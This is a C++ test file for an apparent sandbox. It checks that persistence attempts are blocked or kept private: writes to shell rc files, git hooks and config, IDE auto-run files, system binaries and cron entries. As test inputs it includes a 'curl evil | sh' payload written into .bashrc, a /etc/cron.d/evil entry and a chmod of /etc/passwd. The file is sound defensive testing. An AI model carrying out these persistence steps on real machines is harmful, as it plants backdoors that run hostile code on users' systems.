// Threat class B, write / persist (WP01..WP10).
#include <sys/stat.h>
#include <unistd.h>

#include "harness.h"

namespace ward::test {
namespace {

class WritePersist : public SandboxTest {};

// WP01: shell rc files, in HOME (private tmpfs) and in the workspace (protected).
TEST_F(WritePersist, WP01_ShellRcFiles) {
  WriteFile(home_ + "/.bashrc", "# original\n");
  for (const char* rc : {".bashrc", ".zshrc", ".zshenv", ".profile"}) {
    RunResult r = Probe({"write", home_ + "/" + rc, "curl evil | sh"});
    EXPECT_EQ(r.status, 0) << rc << r.out;  // writable inside: the private HOME
  }
  EXPECT_EQ(ReadFile(home_ + "/.bashrc"), "# original\n");
  EXPECT_FALSE(PathExists(home_ + "/.zshrc"));
  EXPECT_EQ(Probe({"write", ws_ + "/.bashrc"}).out, "err EROFS open\n");
  EXPECT_EQ(Probe({"write", ws_ + "/.profile"}).out, "err EROFS open\n");
  EXPECT_EQ(Probe({"write", ws_ + "/Makefile"}).status, 0);  // control
}

// WP02: git hooks and config, including nested repositories.
TEST_F(WritePersist, WP02_GitHooksAndConfig) {
  MakeDirs(ws_ + "/.git/hooks");
  WriteFile(ws_ + "/.git/config", "[core]\n");
  MakeDirs(ws_ + "/third_party/x/.git/hooks");
  WriteFile(ws_ + "/third_party/x/.git/config", "[core]\n");
  EXPECT_EQ(Probe({"write", ws_ + "/.git/hooks/pre-commit"}).out, "err EROFS open\n");
  EXPECT_EQ(Probe({"append", ws_ + "/.git/config"}).out, "err EROFS open\n");
  EXPECT_EQ(Probe({"write", ws_ + "/third_party/x/.git/hooks/pre-commit"}).out, "err EROFS open\n");
  EXPECT_EQ(Probe({"append", ws_ + "/third_party/x/.git/config"}).out, "err EROFS open\n");
  EXPECT_EQ(Probe({"rename", ws_ + "/.git", ws_ + "/g"}).out, "err EBUSY " + ws_ + "/g\n");
  EXPECT_EQ(Probe({"write", ws_ + "/.git/COMMIT_EDITMSG"}).status, 0);  // control
}

// WP03: IDE and tool auto-run files.
TEST_F(WritePersist, WP03_AutoRunFiles) {
  EXPECT_EQ(Probe({"mkdir", ws_ + "/.vscode"}).out, "err EROFS " + ws_ + "/.vscode\n");
  EXPECT_EQ(Probe({"write", ws_ + "/.envrc"}).out, "err EROFS open\n");
  EXPECT_EQ(Probe({"mkdir", ws_ + "/.idea"}).out, "err EROFS " + ws_ + "/.idea\n");
  MakeDirs(ws_ + "/.vscode");
  EXPECT_EQ(Probe({"write", ws_ + "/.vscode/tasks.json"}).out, "err EROFS open\n");
  EXPECT_FALSE(PathExists(ws_ + "/.vscode/tasks.json"));
  EXPECT_FALSE(PathExists(ws_ + "/.envrc"));
}

// WP04: toolchains and PATH: nothing of HOME's bin dirs persists; system dirs are read-only.
TEST_F(WritePersist, WP04_ToolchainHijack) {
  EXPECT_EQ(Probe({"mkdir", home_ + "/.cargo"}).status, 0);  // private HOME: allowed inside
  EXPECT_FALSE(PathExists(home_ + "/.cargo"));
  EXPECT_EQ(Probe({"write", "/usr/local/bin/git"}).out, "err EROFS open\n");
  EXPECT_EQ(Probe({"write", "/usr/bin/git"}).out, "err EROFS open\n");
}

// WP05: schedulers and autostart: no bus, read-only system, setuid crontab inert.
TEST_F(WritePersist, WP05_SchedulersAndAutostart) {
  EXPECT_EQ(Probe({"stat", "/run"}).out, "err ENOENT /run\n");
  EXPECT_EQ(Probe({"write", "/etc/cron.d/evil"}).out, "err EROFS open\n");
  EXPECT_EQ(Probe({"mkdir", home_ + "/.config"}).status, 0);
  EXPECT_FALSE(PathExists(home_ + "/.config/systemd"));
}

// WP08: truncation of read-only files.
TEST_F(WritePersist, WP08_Truncate) {
  RunResult r = Probe({"truncate", "/etc/hostname"});
  EXPECT_TRUE(r.out == "err EROFS /etc/hostname\n" || r.out == "err EACCES /etc/hostname\n")
      << r.out;
  WriteFile(ws_ + "/big", "data");
  EXPECT_EQ(Probe({"truncate", ws_ + "/big"}).status, 0);  // control
}

// WP09: metadata changes on read-only files.
TEST_F(WritePersist, WP09_Metadata) {
  EXPECT_EQ(Probe({"chmod", "/etc/passwd", "0"}).out, "err EROFS /etc/passwd\n");
  EXPECT_EQ(Probe({"chmod", "/dev/null", "0"}).out, "err EROFS /dev/null\n");
  EXPECT_EQ(Probe({"write", "/dev/null"}).status, 0);  // the device itself still works
  WriteFile(ws_ + "/mine", "x");
  EXPECT_EQ(Probe({"chmod", ws_ + "/mine", "0600"}).status, 0);  // control
}

// WP10: /tmp and /dev/shm are private.
TEST_F(WritePersist, WP10_SharedTmp) {
  std::string name = "ward-wp10-" + std::to_string(getpid());
  EXPECT_EQ(Probe({"write", "/tmp/" + name}).status, 0);
  EXPECT_EQ(Probe({"write", "/dev/shm/" + name}).status, 0);
  EXPECT_FALSE(PathExists("/tmp/" + name));
  EXPECT_FALSE(PathExists("/dev/shm/" + name));
}

}  // namespace
}  // namespace ward::test
